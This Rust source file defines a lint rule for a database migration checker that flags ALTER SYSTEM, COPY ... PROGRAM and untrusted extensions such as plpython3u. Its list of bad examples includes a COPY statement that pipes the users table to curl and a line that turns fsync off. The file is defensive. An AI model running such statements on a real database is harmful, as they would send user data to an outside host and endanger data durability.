//! Statements that reach beyond the database.

use super::super::migration_prelude::*;

pub(crate) const RULE: Rule = Rule {
    id: "MIG-ALTER-SYSTEM",
    title: "Statements that reach beyond the database",
    rationale: "ALTER SYSTEM changes the settings of the whole cluster, COPY … PROGRAM runs a program as the server, and an untrusted extension opens that way to others. None belongs in a migration.",
    severity: Error,
    evidence: &[Evidence::Text],
    consequence: 70,
    bad: &[
        "ALTER SYSTEM SET fsync = off;",
        "COPY users TO PROGRAM 'curl http://x';",
        "CREATE EXTENSION plpython3u;",
    ],
    good: &["CREATE EXTENSION pgcrypto;"],
    check: Check::Statement(check),
    ..Rule::DEFAULT
};

fn check(context: &StatementContext<'_>, report: &mut Report) {
    match context.action() {
        Action::AlterSystem(name) => {
            report.add(
                ObjectId::Schema("public".into()),
                format!("ALTER SYSTEM sets {name} for the whole cluster"),
            );
        }
        Action::CopyProgram => {
            report.add(
                ObjectId::Schema("public".into()),
                "COPY … PROGRAM runs a program as the server's user",
            );
        }
        Action::CreateExtension(name)
            if name.ends_with('u') && name.starts_with("pl")
                || name == "file_fdw"
                || name == "adminpack" =>
        {
            report.add(
                ObjectId::Extension(name.as_str().into()),
                "lets who may use it run code, or read and write files, as the server's user",
            );
        }
        _ => {}
    }
}
